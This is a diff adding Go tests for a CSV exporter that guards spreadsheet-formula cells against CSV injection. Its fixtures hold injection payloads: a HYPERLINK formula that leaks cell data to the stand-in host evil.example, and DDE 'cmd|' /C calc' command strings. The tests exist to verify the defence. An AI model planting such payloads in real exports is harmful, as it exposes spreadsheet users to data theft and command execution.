@@ -2,6 +2,7 @@ package content
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"os"
@@ -343,6 +344,106 @@ func TestExportCSVReadsBack(t *testing.T) {
 		if !seen[k] {
 			t.Errorf("no %s written", k)
 		}
+	}
+}
+
+// GuardCell writes what a spreadsheet would run as a formula after an apostrophe (OWASP's CSV injection
+// guidance: =, +, -, @, tab, carriage return), leaves plain numbers and modifiers (-1, +2) as they are, and
+// the reader reads every guarded cell back to the value it guards.
+func TestGuardCell(t *testing.T) {
+	for _, c := range []struct{ value, written string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"+1+1", "'+1+1"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{"\t=1+2", "'\t=1+2"},
+		{"\r=1+2", "'\r=1+2"},
+		{"-1/2", "'-1/2"}, // muster's half, which a spreadsheet would divide
+		{"-", "'-"},
+		{"'=x", "''=x"}, // an apostrophe the reader would take off is kept by another
+		{"''", "'''"},
+		{"-1", "-1"}, {"+1", "+1"}, {"-0.5", "-0.5"}, {"+.5", "+.5"}, {"-1e3", "-1e3"}, {"12", "12"},
+		{"'tis", "'tis"}, {"'", "'"}, {"Knights, mounted", "Knights, mounted"}, {"1-1", "1-1"}, {"", ""},
+	} {
+		if got := GuardCell(c.value); got != c.written {
+			t.Errorf("GuardCell(%q) = %q, want %q", c.value, got, c.written)
+		}
+		if c.value == "" {
+			continue
+		}
+		var b bytes.Buffer
+		w := csv.NewWriter(&b)
+		writeGuarded(w, []string{"id", "name"})
+		writeGuarded(w, []string{"x", c.value})
+		w.Flush()
+		docs, ds := readUnits(t, b.String())
+		if len(docs) != 1 || len(ds) != 0 {
+			t.Fatalf("%q: %d documents, %v", c.value, len(docs), ds)
+		}
+		if got := docs[0].Value.(map[string]any)["name"]; got != c.value {
+			t.Errorf("%q read back as %q from %q", c.value, got, b.String())
+		}
+	}
+}
+
+// muster export csv writes no cell a spreadsheet runs, and reads its own spreadsheets back to the package's
+// values: names and sources that are formulas, table cells that are modifiers (-1, +1, which stay numbers
+// in the spreadsheet) and halves (-1/2, which a spreadsheet would divide).
+func TestExportCSVGuardsFormulas(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name, text string) {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write("muster.yaml", "kind: Package\nid: g\nversion: 1.0.0\nsystem: s\n")
+	write("system.yaml", "kind: System\nid: s\nstats:\n  - {id: movement, abbr: MA}\n")
+	write("units.yaml", `kind: UnitType
+id: inf
+name: "=HYPERLINK(\"http://evil.example\",\"Infantry\")"
+source: "@SUM(1+1)*cmd|' /C calc'!A0"
+stats: {movement: "+1+1"}
+`)
+	write("crt.yaml", `kind: Table
+id: crt
+corner: "=1+2"
+columns: ["-1", "+1", "-1/2"]
+rows:
+  - {label: "-2", cells: ["-1", "+1", "-1/2"], source: "=cmd"}
+`)
+	pkg, ds := Load(dir)
+	if ds.HasErrors() {
+		t.Fatal(ds)
+	}
+	files, _ := ExportCSV(pkg)
+	stats := systemStats("s", pkg.Docs)
+	for _, f := range files {
+		r := csv.NewReader(bytes.NewReader(f.Data))
+		r.FieldsPerRecord = -1
+		recs, err := r.ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, rec := range recs {
+			for _, cell := range rec {
+				if cell != "" && strings.IndexByte(formulaStarts, cell[0]) >= 0 && !plainNumber(cell) {
+					t.Errorf("%s: the cell %q would run in a spreadsheet", f.Path, cell)
+				}
+			}
+		}
+		back, rds := parseCSV(f.Path, f.Data, f.Include.Kind, f.Include.ID, stats, &valueBudget{})
+		if len(rds) != 0 || len(back) != 1 {
+			t.Fatalf("%s: %d documents, %v", f.Path, len(back), rds)
+		}
+		want := keep(pkg.find(back[0].Kind, back[0].ID).Value, csvShapes[back[0].Kind].rowsKey)
+		if !reflect.DeepEqual(back[0].Value, want) {
+			a, _ := json.Marshal(back[0].Value)
+			b, _ := json.Marshal(want)
+			t.Errorf("%s:\n got %s\nwant %s", f.Path, a, b)
+		}
+	}
+	if len(files) != 2 || !bytes.Contains(files[1].Data, []byte("-2,-1,+1,'-1/2,'=cmd")) {
+		t.Errorf("the table is written\n%s", files[len(files)-1].Data)
 	}
 }
 
